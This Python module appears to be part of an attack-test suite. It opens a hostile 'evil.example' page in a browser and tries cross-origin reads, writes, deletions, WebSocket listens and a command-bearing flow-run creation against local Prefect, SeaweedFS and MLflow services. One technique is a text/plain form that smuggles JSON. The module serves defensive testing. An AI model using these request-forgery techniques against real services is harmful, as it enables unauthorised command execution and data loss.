"""A web page of somebody else in the owner's browser: what its scripts, forms, pictures and WebSockets get.

The page is served on another port of this machine, once as `http://evil.example` (the browser is told that this host is
here) and once as `http://127.0.0.1`, as another user of the machine could do it.
"""

import contextlib
import json
import threading
from collections.abc import Generator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from importlib.util import find_spec
from typing import TYPE_CHECKING, Any

from tests.attack.answers import Answer, Attempt
from tests.attack.laid_out import BUCKET, KEY, SPARE_BUCKET, LaidOut, Owner
from tests.attack.prefect_attempts import command_run
from tests.attack.subjects import Port
from tests.service.browser import CHROMIUM, chromium

if TYPE_CHECKING:
    from playwright.sync_api import Page

HOSTS = ("evil.example", "127.0.0.1")  # under which the page is opened
_SCRIPT = """async a => {
    const wait = (object, ...events) => new Promise(done => {
        for (const event of events) object.addEventListener(event, () => done(event))
        setTimeout(() => done('nothing'), 2000)
    })
    const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields))
    try {
        if (a.how === 'fetch' || a.how === 'no-cors') {
            const mode = a.how === 'fetch' ? 'cors' : 'no-cors'
            const given = {method: a.method, mode, credentials: a.credentials ?? 'include'}
            given.signal = AbortSignal.timeout(3000)  // a browser that asks its owner for a password waits for ever
            if (a.body !== undefined) given.body = a.headers ? a.body : new Blob([a.body])
            if (a.headers) given.headers = a.headers
            const response = await fetch(a.url, given)
            return {type: response.type, status: response.status, text: (await response.text()).slice(0, 4000)}
        }
        if (a.how === 'form') {
            const name = 'f' + Math.random()
            const frame = add('iframe', {name})
            const form = add('form', {action: a.url, method: 'POST', enctype: 'text/plain', target: name})
            // One field whose name and value together are the JSON, with the '=' in a string of it.
            const [left, right] = [a.body.slice(0, -1) + ', "x": "', '"}']
            form.appendChild(Object.assign(document.createElement('input'), {name: left, value: right}))
            form.submit()
            return {type: 'form ' + await wait(frame, 'load')}
        }
        if (a.how === 'websocket') {
            const socket = new WebSocket(a.url, a.subprotocols)
            const messages = []
            let closed = 0
            socket.onmessage = event => messages.push(String(event.data))
            socket.onclose = event => { closed = event.code }
            if (await wait(socket, 'open', 'error') !== 'open') return {error: 'WebSocket refused'}
            for (const message of a.messages) socket.send(message)
            await new Promise(done => setTimeout(done, 1500))
            socket.close()
            return closed ? {error: 'closed by the server', status: closed, text: messages.join('\\n')}
                : {status: 101, text: ['open and stays open', ...messages].join('\\n')}
        }
        return {type: a.how + ' ' + await wait(add(a.how, {src: a.url}), 'load', 'error')}
    } catch (error) {
        return {error: String(error)}
    }
}"""


class ForeignPage:
    """The page in a browser, from one origin at a time.

    Args:
        page: of the browser.
        port: where it is served.
    """

    def __init__(self, page: "Page", port: int) -> None:
        self._page, self._port = page, port
        self._statuses: dict[str, list[int]] = {}
        self._urls: dict[str, str] = {}
        page.context.on("response", lambda response: self._saw(response.url, response.status))
        # Of answers that the page may not read only the protocol of the developer tools tells the status.
        tools = page.context.new_cdp_session(page)
        tools.send("Network.enable")
        tools.on("Network.requestWillBeSent", self._asked)
        tools.on("Network.responseReceivedExtraInfo", self._answered)

    def _saw(self, url: str, status: int) -> None:
        self._statuses.setdefault(url.split("#")[0], []).append(status)

    def _asked(self, event: dict[str, Any]) -> None:
        self._urls[event["requestId"]] = event["request"]["url"]

    def _answered(self, event: dict[str, Any]) -> None:
        if event["requestId"] in self._urls:
            self._saw(self._urls[event["requestId"]], event["statusCode"])

    def log_in(self, url: str, login: str) -> None:
        """The owner has been at MLflow in this browser, which keeps name and password."""
        scheme, _, rest = url.partition("://")
        self._page.goto(f"{scheme}://{login}@{rest}/")

    def open(self, host: str) -> None:
        """Go to the page."""
        self._page.goto(f"http://{host}:{self._port}/")

    def attempt(self, action: dict[str, Any]) -> Answer:
        """Do one thing. The status is what the browser saw, also where the page may not read it."""
        self._statuses.clear()
        got = self._page.evaluate(_SCRIPT, action)
        statuses = self._statuses.get(action["url"], [])
        status = got.get("status") or (statuses[-1] if statuses else None)
        text, error = got.get("text") or "", got.get("error") or got.get("type", "")
        if status and not text:
            error = f"the page may not read it: {error}"
        return Answer(status=status, text=text, error=error)


@contextlib.contextmanager
def foreign_page() -> Generator[ForeignPage]:
    """A browser with the page in it."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            content = b"<!doctype html><title>prizes</title><body>"
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(content)

        def log_message(self, format: str, *args: object) -> None:  # noqa: A002
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with chromium(f"--host-resolver-rules=MAP {HOSTS[0]} 127.0.0.1") as page:
            yield ForeignPage(page, server.server_port)
    finally:
        server.shutdown()
        server.server_close()


def why_not() -> str:
    """The reason that there is no browser; '' where there is one."""
    if not CHROMIUM:
        return "no Chromium on this machine"
    return "" if find_spec("playwright") else "playwright is not installed (the extra `browser`)"


def _ways(target: str, tried: str, url: str, body: str) -> list[Attempt]:
    """A POST in every way that a page has."""
    json_type = {"Content-Type": "application/json"}
    ways = {
        "fetch": {"how": "fetch", "headers": json_type},
        "fetch without login": {"how": "fetch", "headers": json_type, "credentials": "omit"},
        "fetch as text/plain": {"how": "fetch", "headers": {"Content-Type": "text/plain"}},
        "no-cors": {"how": "no-cors", "headers": {"Content-Type": "text/plain"}},
        "no-cors without a type": {"how": "no-cors"},
        "form": {"how": "form"},
    }
    return [
        Attempt(
            target=target,
            tried=f"{tried}, {way}",
            action=given | {"url": url, "method": "POST", "body": body},
        )
        for way, given in ways.items()
    ]


def _gets(target: str, url: str, path: str) -> list[Attempt]:
    """A GET in every way that a page has."""
    ways: dict[str, dict[str, str]] = {
        how: {"how": how} for how in ("fetch", "no-cors", "img", "script", "iframe")
    }
    ways["fetch without login"] = {"how": "fetch", "credentials": "omit"}
    return [
        Attempt(
            target=target,
            tried=f"GET {path}, {way}",
            action=given | {"url": url + path, "method": "GET"},
        )
        for way, given in ways.items()
    ]


def prefect(url: str, laid: LaidOut) -> list[Attempt]:
    """Read, command a worker, listen to events."""
    target = "Prefect"
    api = f"{url}/api"
    made = _gets(target, url, "/api/admin/settings") + _gets(target, url, "/api/health")
    made += _ways(target, "POST /api/variables/filter", f"{api}/variables/filter", '{"offset": 0}')
    made += _ways(
        target, "POST /api/variables/", f"{api}/variables/", '{"name": "page", "value": "x"}'
    )
    if laid.deployment:
        run = f"{api}/deployments/{laid.deployment}/create_flow_run"
        body = json.dumps(command_run(laid.markers["page"]))
        made += _ways(target, "POST .../create_flow_run with a command", run, body)
    for path in ("/api/events/out", "/api/events/in", "/api/logs/out"):
        auth = json.dumps({"type": "auth", "token": ""})
        ask = json.dumps({"type": "filter", "filter": {}})
        for subprotocols, messages in ((["prefect"], [auth, ask]), ([], [ask])):
            action = {"how": "websocket", "url": url.replace("http", "ws") + path}
            action |= {"subprotocols": subprotocols, "messages": messages}
            tried = f"WebSocket {path}{', prefect' if subprotocols else ''}"
            made.append(Attempt(target=target, tried=tried, action=action))
    return made


def seaweedfs(ports: list[Port]) -> list[Attempt]:
    """Read, write, and delete a bucket by a picture."""
    at = {p.name.removeprefix("SeaweedFS "): f"{p.host}:{p.number}" for p in ports}
    review, delete = f"/buckets/{BUCKET}/{KEY}", f"/col/delete?collection={SPARE_BUCKET}"
    master, filer = (at[name] for name in ("master.port", "filer.port"))
    made = _gets("SeaweedFS filer.port", f"http://{filer}", review)
    planted = f"http://{filer}/buckets/{BUCKET}/labelled/page.jsonl"
    made += _ways("SeaweedFS filer.port", "POST a file", planted, '{"id": 1}')
    made += _gets("SeaweedFS master.port", f"http://{master}", delete)
    for name, url, path in (("filer", filer, review), ("master", master, delete)):
        given = {"url": f"https://{url}{path}", "method": "GET"}
        made += [
            Attempt(
                target=f"SeaweedFS {name}.port",
                tried=f"GET {path}, {how}, TLS",
                action=given | {"how": how},
            )
            for how in ("no-cors", "img")
        ]
    made += _gets("SeaweedFS s3.port", f"http://{at['s3.port']}", f"/{BUCKET}/{KEY}")
    return made


def mlflow(url: str, laid: LaidOut) -> list[Attempt]:
    """Read and write."""
    api = "/api/2.0/mlflow"
    experiment = f"{api}/experiments/get?experiment_id={laid.experiment}"
    made = _gets("MLflow", url, experiment)
    made += _gets("MLflow", url, "/api/2.0/mlflow-artifacts/artifacts/attack/x.txt")
    for path, question in (
        ("experiments/search", {"max_results": 10}),
        ("experiments/create", {"name": "page"}),
        ("experiments/delete", {"experiment_id": laid.experiment}),
    ):
        body = json.dumps(question)
        made += _ways("MLflow", f"POST {api}/{path}", f"{url}{api}/{path}", body)
    return made


def attempts(owner: Owner, ports: list[Port], laid: LaidOut) -> list[Attempt]:
    """All that the page tries."""
    store = [p for p in ports if p.name.startswith("SeaweedFS")]
    made = prefect(owner.prefect_url, laid) + (seaweedfs(store) if store else [])
    return made + (mlflow(owner.mlflow_url, laid) if owner.mlflow_url else [])
